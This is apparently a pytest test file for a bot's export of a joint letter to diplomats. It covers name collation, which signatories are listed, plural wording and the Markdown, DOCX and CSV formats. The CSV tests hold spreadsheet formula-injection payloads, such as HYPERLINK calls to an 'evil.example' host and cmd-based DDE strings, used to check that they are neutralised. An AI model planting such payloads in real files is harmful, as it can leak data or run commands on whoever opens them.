"""The export sent to diplomats: ordering, who is listed, wording, and the three formats."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import docx
import pytest
from docx.shared import Pt

from bot.services.disclosure import LaterMinor
from bot.services.export import (
    CSV_HEADER,
    ExportInput,
    ExportSignatory,
    anonymous_line,
    export_file_names,
    listed_signatories,
    markdown_escape,
    neutralise_cell,
    render_csv,
    render_docx,
    render_markdown,
    signatory_sort_key,
    spreadsheet_csv,
)

ZURICH = ZoneInfo("Europe/Zurich")
GENERATED = datetime(2026, 3, 20, 13, 5, tzinfo=UTC)  # 14:05 in Zurich (CET)
ANSWERED = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)

LETTER_TEXT = (
    "To the delegations of the Council\n\n"
    "We, the undersigned organisations, ask you to keep the monitoring mandate alive.\n\n"
    "Yours sincerely,"
)


def ordered(names: list[str]) -> list[str]:
    return sorted(names, key=signatory_sort_key)


def signatory(
    organisation: str,
    decision: str | None = "signed",
    listing: str | None = "named",
    *,
    valid: bool | None = None,
    version: int | None = 3,
    contact: str | None = "Contact Person",
    reason: str | None = None,
) -> ExportSignatory:
    """A response row; by default a named signature on the final version (v3)."""
    if decision is None:
        return ExportSignatory(organisation, None, None, None, None, False, None, None, None)
    return ExportSignatory(
        organisation=organisation,
        decision=decision,
        listing=listing if decision == "signed" else None,
        version_number=version,
        fingerprint="7f3a9c21" if version == 3 else "0badf00d",
        valid_for_final=(decision == "signed") if valid is None else valid,
        contact=contact,
        answered_at=ANSWERED,
        reason=reason,
    )


def make_input(rows: list[ExportSignatory], language: str = "en", **changes: object) -> ExportInput:
    data = ExportInput(
        letter_id=4,
        title="Joint letter on the monitoring mandate",
        final_text=LETTER_TEXT,
        version_number=3,
        fingerprint="7f3a9c21",
        deadline=datetime(2026, 3, 20, 17, 0, tzinfo=UTC),
        language=language,
        rows=rows,
        generated_at=GENERATED,
        zone=ZURICH,
    )
    return replace(data, **changes)  # type: ignore[arg-type]


MIXED_ROWS = [
    signatory("Zubr"),
    signatory("«Вясна»"),
    signatory("Amnesty Example"),
    signatory("Quiet Partner", listing="anonymous"),
    signatory("Silent Friends", listing="anonymous"),
    signatory("Inner Circle", listing="internal"),
    signatory("Old Signer", version=2, valid=False),  # signed v2, material v3 came after
    signatory("Old Anonymous", listing="anonymous", version=2, valid=False),
    signatory("No Thanks", "declined", reason="Out of our mandate"),
    signatory("Changed Mind", "withdrawn"),
    signatory("Still Thinking", None),
]


# --------------------------------------------------------------------------- ordering


def test_mixed_list_sorts_like_a_sign_on_letter() -> None:
    names = [
        "«Вясна»",
        "Amnesty International",
        "Égalité",
        "Belarusian PEN",
        '"Free Belarus" Centre',
        "Zubr",
        "Абвестка",
        "Libereco – Partnership for Human Rights",
        "ILGA-Europe",
    ]
    # Latin (DUCET puts it before Cyrillic), accents with their base letter, leading
    # quotes ignored; then Cyrillic: «Вясна» files under В, after Абвестка.
    assert ordered(names) == [
        "Amnesty International",
        "Belarusian PEN",
        "Égalité",
        '"Free Belarus" Centre',
        "ILGA-Europe",
        "Libereco – Partnership for Human Rights",
        "Zubr",
        "Абвестка",
        "«Вясна»",
    ]


def test_accents_sort_with_their_base_letter() -> None:
    assert ordered(["Ezra Watch", "Écoute Libre", "Eagle Rights", "Dignité"]) == [
        "Dignité",
        "Eagle Rights",
        "Écoute Libre",
        "Ezra Watch",
    ]


def test_case_does_not_decide_the_order() -> None:
    assert ordered(["beta Group", "Alpha Group", "gamma Group", "Delta Group"]) == [
        "Alpha Group",
        "beta Group",
        "Delta Group",
        "gamma Group",
    ]


def test_every_kind_of_leading_quote_or_bracket_is_ignored_but_kept() -> None:
    names = [
        "„Dawn“ Network",
        "«Cedar»",
        "(Birch) Union",
        "'Elm' Society",
        "[Fir] Collective",
        "\u201cAsh\u201d Foundation",
        "\u2014 Grove",
    ]
    assert ordered(names) == [
        "\u201cAsh\u201d Foundation",
        "(Birch) Union",
        "«Cedar»",
        "„Dawn“ Network",
        "'Elm' Society",
        "[Fir] Collective",
        "\u2014 Grove",
    ]


def test_cyrillic_order_russian_and_belarusian_letters() -> None:
    # DUCET: Ё files with Е, Ў with У (diacritics only break ties), І right after И.
    names = ["Ўсход", "Ёлка", "Ель", "Ежи", "Ігнат", "Ирис", "Устой", "Ясень", "Жук"]
    assert ordered(names) == [
        "Ежи",
        "Ёлка",
        "Ель",
        "Жук",
        "Ирис",
        "Ігнат",
        "Устой",
        "Ўсход",
        "Ясень",
    ]


def test_ties_are_broken_the_same_way_whatever_the_input_order() -> None:
    names = ["apple Watch", "Apple Watch", "«Apple Watch»", '"Apple Watch"']
    assert ordered(names) == ordered(list(reversed(names)))
    assert len(set(map(signatory_sort_key, names))) == len(names)


def test_names_made_only_of_punctuation_do_not_break_sorting() -> None:
    assert ordered(["B", "«»", "A"])[1:] == ["A", "B"]


# --------------------------------------------------------------------------- who is listed


def test_only_named_signatures_valid_for_the_final_version_are_listed() -> None:
    names, anonymous = listed_signatories(MIXED_ROWS)
    assert names == ["Amnesty Example", "Zubr", "«Вясна»"]
    assert anonymous == 2  # Quiet Partner, Silent Friends; not the superseded one


def test_internal_and_superseded_signatures_are_neither_named_nor_counted() -> None:
    names, anonymous = listed_signatories(
        [
            signatory("Inner Circle", listing="internal"),
            signatory("Old Signer", version=2, valid=False),
        ]
    )
    assert (names, anonymous) == ([], 0)


def test_valid_flag_on_a_non_signature_does_not_list_it() -> None:
    declined = replace(signatory("No Thanks", "declined"), valid_for_final=True, listing="named")
    assert listed_signatories([declined]) == ([], 0)


# --------------------------------------------------------------------------- wording


@pytest.mark.parametrize(
    ("language", "count", "expected"),
    [
        ("en", 1, "and 1 organisation that cannot be named"),
        ("en", 2, "and 2 organisations that cannot be named"),
        ("en", 21, "and 21 organisations that cannot be named"),
        ("ru", 1, "и ещё 1 организация, которую нельзя назвать"),
        ("ru", 2, "и ещё 2 организации, которые нельзя назвать"),
        ("ru", 5, "и ещё 5 организаций, которые нельзя назвать"),
        ("ru", 11, "и ещё 11 организаций, которые нельзя назвать"),
        ("ru", 21, "и ещё 21 организация, которую нельзя назвать"),
        ("ru", 22, "и ещё 22 организации, которые нельзя назвать"),
        ("be", 1, "і яшчэ 1 арганізацыя, якую нельга назваць"),
        ("be", 3, "і яшчэ 3 арганізацыі, якія нельга назваць"),
        ("be", 5, "і яшчэ 5 арганізацый, якія нельга назваць"),
        ("be", 14, "і яшчэ 14 арганізацый, якія нельга назваць"),
        ("be", 31, "і яшчэ 31 арганізацыя, якую нельга назваць"),
    ],
)
def test_anonymous_line_plurals(language: str, count: int, expected: str) -> None:
    assert anonymous_line(count, language) == expected


def test_unknown_language_falls_back_to_english() -> None:
    assert anonymous_line(2, "de") == "and 2 organisations that cannot be named"
    assert "## Signatories" in render_markdown(make_input(MIXED_ROWS, language="de"))


def test_anonymous_line_needs_someone_to_count() -> None:
    with pytest.raises(ValueError):
        anonymous_line(0, "en")


# --------------------------------------------------------------------------- markdown


def test_markdown_has_text_list_count_and_footer_in_order() -> None:
    text = render_markdown(make_input(MIXED_ROWS))
    expected_order = [
        "# Joint letter on the monitoring mandate",
        "We, the undersigned organisations",
        "Yours sincerely,",
        "## Signatories",
        "- Amnesty Example",
        "- Zubr",
        "- «Вясна»",
        "and 2 organisations that cannot be named",
        "*Letter 4 · version v3 · 7f3a9c21 · generated 2026-03-20 14:05 Europe/Zurich*",
    ]
    positions = [text.index(piece) for piece in expected_order]
    assert positions == sorted(positions)
    for hidden in ("Quiet Partner", "Inner Circle", "Old Signer", "No Thanks", "Still Thinking"):
        assert hidden not in text


def test_markdown_keeps_the_letter_text_as_written() -> None:
    assert LETTER_TEXT in render_markdown(make_input(MIXED_ROWS))


@pytest.mark.parametrize(
    ("language", "heading", "line"),
    [
        ("ru", "## Подписавшие организации", "и ещё 2 организации, которые нельзя назвать"),
        ("be", "## Арганізацыі, якія падпісалі", "і яшчэ 2 арганізацыі, якія нельга назваць"),
    ],
)
def test_markdown_heading_and_count_in_the_export_language(
    language: str, heading: str, line: str
) -> None:
    text = render_markdown(make_input(MIXED_ROWS, language=language))
    assert heading in text
    assert line in text
    assert "v3 · 7f3a9c21" in text


def test_markdown_without_anonymous_signatories_has_no_count_line() -> None:
    text = render_markdown(make_input([signatory("Zubr")]))
    assert "cannot be named" not in text


def test_markdown_escapes_formatting_in_names() -> None:
    rows = [signatory("*Star* _Rights_ #1"), signatory("# Heading Org"), signatory("1. First")]
    text = render_markdown(make_input(rows))
    assert "- \\*Star\\* \\_Rights\\_ \\#1" in text
    assert "- \\# Heading Org" in text
    assert "- 1\\. First" in text


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("ILGA-Europe", "ILGA-Europe"),
        ("- Dash Org", "\\- Dash Org"),
        ("+ Plus Org", "\\+ Plus Org"),
        ("> Quote Org", "\\> Quote Org"),
        ("[Link](http://x)", "\\[Link\\](http://x)"),
        ("AT&amp;T Watch", "AT\\&amp;T Watch"),
        ("A & B", "A & B"),
        ("Two\nLines", "Two Lines"),
    ],
)
def test_markdown_escape(raw: str, escaped: str) -> None:
    assert markdown_escape(raw) == escaped


def test_footer_uses_the_zone_of_the_export() -> None:
    text = render_markdown(make_input(MIXED_ROWS, zone=ZoneInfo("Europe/Minsk")))
    assert "generated 2026-03-20 16:05 Europe/Minsk" in text


# --------------------------------------------------------------------------- docx


def read_docx(blob: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(blob))


def test_docx_reads_back_with_text_list_and_footer() -> None:
    document = read_docx(render_docx(make_input(MIXED_ROWS)))
    paragraphs = [p for p in document.paragraphs]
    texts = [p.text for p in paragraphs]
    assert texts == [
        "Joint letter on the monitoring mandate",
        "To the delegations of the Council",
        "We, the undersigned organisations, ask you to keep the monitoring mandate alive.",
        "Yours sincerely,",
        "Signatories",
        "Amnesty Example",
        "Zubr",
        "«Вясна»",
        "and 2 organisations that cannot be named",
        "Letter 4 · version v3 · 7f3a9c21 · generated 2026-03-20 14:05 Europe/Zurich",
    ]
    assert paragraphs[0].style.name == "Title"
    assert paragraphs[4].style.name == "Heading 1"
    assert [p.style.name for p in paragraphs[5:8]] == ["List Bullet"] * 3
    assert paragraphs[-1].runs[0].font.size == Pt(8)


def test_docx_one_paragraph_per_line_when_the_text_has_no_blank_lines() -> None:
    data = make_input([signatory("Zubr")], final_text="First line\nSecond line\nThird line")
    texts = [p.text for p in read_docx(render_docx(data)).paragraphs]
    assert texts[1:4] == ["First line", "Second line", "Third line"]


def test_docx_in_russian_and_without_anonymous_line() -> None:
    data = make_input([signatory("Zubr"), signatory("Абвестка")], language="ru")
    texts = [p.text for p in read_docx(render_docx(data)).paragraphs]
    assert "Подписавшие организации" in texts
    assert texts[-3:-1] == ["Абвестка", "Zubr"]  # a Russian list: Cyrillic first
    assert texts[-1].startswith("Письмо 4 · версия v3 · 7f3a9c21")


def test_docx_is_reproducible_and_carries_no_tool_or_author_metadata() -> None:
    data = make_input(MIXED_ROWS)
    blob = render_docx(data)
    assert blob == render_docx(data)
    properties = read_docx(blob).core_properties
    assert properties.author == ""
    assert properties.comments == ""
    assert properties.title == "Joint letter on the monitoring mandate"
    assert properties.created == GENERATED
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        assert b"python-docx" not in archive.read("docProps/core.xml")


def test_docx_survives_control_characters_in_names() -> None:
    data = make_input([signatory("Bad\x00Byte\x0bOrg")], generated_at=GENERATED.astimezone(ZURICH))
    assert "BadByte Org" in [p.text for p in read_docx(render_docx(data)).paragraphs]


# --------------------------------------------------------------------------- csv


def read_csv(blob: bytes) -> list[list[str]]:
    assert blob.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(blob[3:].decode("utf-8"), newline="")))


def test_csv_has_bom_header_and_one_sorted_row_per_organisation() -> None:
    table = read_csv(render_csv(make_input(MIXED_ROWS)))
    assert tuple(table[0]) == CSV_HEADER
    assert len(table) == 1 + len(MIXED_ROWS)
    names = [row[0] for row in table[1:]]
    assert names == ordered([row.organisation for row in MIXED_ROWS])
    assert "«Вясна»" in names  # Cyrillic and guillemets intact


def test_csv_row_contents() -> None:
    table = read_csv(render_csv(make_input(MIXED_ROWS)))
    by_name = {row[0]: dict(zip(CSV_HEADER, row, strict=True)) for row in table[1:]}
    assert by_name["Zubr"] == {
        "organisation": "Zubr",
        "response": "signed",
        "listing": "named",
        "version": "3",
        "fingerprint": "7f3a9c21",
        "valid_for_final_version": "yes",
        "contact": "Contact Person",
        "answered_at": "2026-03-02T09:30:00+01:00",
        "reason": "",
        "minor_versions_after": "",
        "told_of_them": "",
        "person": "",
        "recorded_by": "",
        "channel": "",
        "note": "",
    }
    assert by_name["Old Signer"]["valid_for_final_version"] == "no"
    assert by_name["Old Signer"]["version"] == "2"
    assert by_name["No Thanks"]["response"] == "declined"
    assert by_name["No Thanks"]["reason"] == "Out of our mandate"
    assert by_name["No Thanks"]["valid_for_final_version"] == "no"
    assert by_name["Changed Mind"]["response"] == "withdrawn"
    assert by_name["Still Thinking"] == {
        "organisation": "Still Thinking",
        "response": "pending",
        "listing": "",
        "version": "",
        "fingerprint": "",
        "valid_for_final_version": "no",
        "contact": "",
        "answered_at": "",
        "reason": "",
        "minor_versions_after": "",
        "told_of_them": "",
        "person": "",
        "recorded_by": "",
        "channel": "",
        "note": "",
    }


def test_csv_says_which_minor_versions_came_after_a_signature_and_when_it_was_told() -> None:
    """Issue 16: per signatory, the minor versions made after the version it signed, and
    when the organisation was first shown each ("not told" if never)."""
    told = datetime(2026, 3, 3, 8, 0, tzinfo=UTC)
    later = (
        LaterMinor(4, "0a1b2c3d", told, told),
        LaterMinor(5, "4e5f6a7b", told, None),
    )
    row = replace(signatory("Zubr"), later_minor=later)
    table = read_csv(render_csv(make_input([row])))
    cells = dict(zip(CSV_HEADER, table[1], strict=True))
    assert cells["minor_versions_after"] == "v4 · 0a1b2c3d; v5 · 4e5f6a7b"
    assert cells["told_of_them"] == "v4 2026-03-03T09:00:00+01:00; v5 not told"


def test_csv_names_organisations_that_received_nothing() -> None:
    """Issue 14 §4: "no contact" is its own state, apart from "pending"."""
    nobody = replace(signatory("Nobody Joined", None), no_contact=True)
    table = read_csv(render_csv(make_input([nobody, signatory("Still Thinking", None)])))
    responses = {row[0]: row[1] for row in table[1:]}
    assert responses == {"Nobody Joined": "no contact", "Still Thinking": "pending"}


def test_csv_answer_times_follow_the_export_zone_across_dst() -> None:
    summer = replace(signatory("Zubr"), answered_at=datetime(2026, 7, 1, 10, 0, tzinfo=UTC))
    table = read_csv(render_csv(make_input([summer])))
    assert table[1][7] == "2026-07-01T12:00:00+02:00"


def test_csv_neutralises_formula_injection() -> None:
    rows = [
        signatory('=HYPERLINK("http://evil","x")'),
        signatory("+Plus Org", contact="@attacker"),
        signatory("-Minus Org", "declined", reason="=1+1"),
        signatory("\tTabbed Org"),
        signatory("Safe Org", contact="Anna = Bob"),
    ]
    table = read_csv(render_csv(make_input(rows)))
    cells = {cell for row in table[1:] for cell in row}
    assert '\'=HYPERLINK("http://evil","x")' in cells
    assert "'+Plus Org" in cells
    assert "'@attacker" in cells
    assert "'-Minus Org" in cells
    assert "'=1+1" in cells
    assert "'\tTabbed Org" in cells
    assert "Anna = Bob" in cells  # only a leading trigger matters
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    "value",
    [
        "=A1",
        "+1+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "＝A1",
        ' "=1',
        "- a list item",
    ],
)
def test_neutralise_cell_triggers(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


# Cells a member or a coordinator could type, each hiding a formula behind a separator of
# some spreadsheet locale (";" for Russian, Belarusian, German; "," for English), a tab, a
# line break or a quote.
ATTACKS = [
    'ok;=HYPERLINK("http://evil.example/?"&A1,"click")',
    "ok,=1+1",
    "ok; =cmd|' /C calc'!A0",
    "ok;+SUM(1,2)",
    "ok;-2+3+cmd|' /C calc'!A0",
    "ok;@SUM(A1:A9)",
    'ok;"=HYPERLINK(""http://evil.example"")"',
    "ok\t=1+1",
    "ok\r=1+1",
    "line one\n=1+1",
    "=1+1;=2+2,=3+3",
    "ok;＝1+1",
    '";=1+1;"',
]
FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_cell_is_a_formula_whatever_the_spreadsheets_separator(
    delimiter: str, quoting: int
) -> None:
    """Read back as spreadsheets of each locale would: with their own separator, honouring
    quotes or (a naive importer) not. Whitespace and quotes before a formula character do
    not disarm it (importers may trim them), so they are skipped before the check."""
    rows = [signatory(attack, "declined", contact=attack, reason=attack) for attack in ATTACKS]
    blob = render_csv(make_input(rows))
    text = blob[3:].decode("utf-8")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
    for row in reader:
        for cell in row:
            start = cell.lstrip(' "\t\r\n')
            assert not start.startswith(FORMULA), (delimiter, quoting, cell)


def test_every_field_is_quoted_and_comes_back_as_written() -> None:
    rows = [signatory(attack, "declined", reason=attack) for attack in ATTACKS]
    blob = render_csv(make_input(rows))
    lines = blob[3:].decode("utf-8").split("\r\n")
    assert lines[0].startswith('"organisation","response",')
    table = read_csv(blob)
    organisations = {row[0] for row in table[1:]}
    # With a comma-separated reader (the file's own format) every cell is one field, the
    # apostrophes the only change.
    assert {o.replace("'", "") for o in organisations} == {a.replace("'", "") for a in ATTACKS}


@pytest.mark.parametrize(
    "value", ["-5", "+3.5", "temperature -5; we disagree", "Anna = Bob", "a-b, c+d", "x@y.org"]
)
def test_legitimate_text_and_plain_numbers_stay_as_they_are(value: str) -> None:
    assert neutralise_cell(value) == value


def test_the_audit_trail_csv_is_neutralised_the_same_way() -> None:
    data = '{"milestone":3,"name":"ok;=1+1","n":-2}'  # an event written before names left
    table = read_csv(spreadsheet_csv(("action", "data"), [["milestone.added", data]]))
    assert table[1] == ["milestone.added", '{"milestone":3,"name":"ok;\'=1+1","n":-2}']


def test_csv_keeps_multiline_reasons_in_one_cell() -> None:
    rows = [signatory("Zubr", "declined", reason="Line one\nLine two")]
    assert read_csv(render_csv(make_input(rows)))[1][8] == "Line one\nLine two"


# --------------------------------------------------------------------------- file names


def test_export_file_names_are_ascii_and_name_the_version() -> None:
    names = export_file_names(make_input(MIXED_ROWS, title="Письмо о мандате"))
    assert names == {
        "md": "letter-4-v3-7f3a9c21.md",
        "docx": "letter-4-v3-7f3a9c21.docx",
        "csv": "letter-4-v3-7f3a9c21-responses.csv",
    }
    assert all(name.isascii() for name in names.values())


def test_naive_generation_time_is_refused() -> None:
    data = make_input(MIXED_ROWS, generated_at=datetime(2026, 3, 20, 13, 5))
    with pytest.raises(ValueError):
        render_markdown(data)


def test_deadline_in_the_past_does_not_matter_to_the_export() -> None:
    data = make_input(MIXED_ROWS, deadline=GENERATED - timedelta(days=30))
    assert "- Zubr" in render_markdown(data)
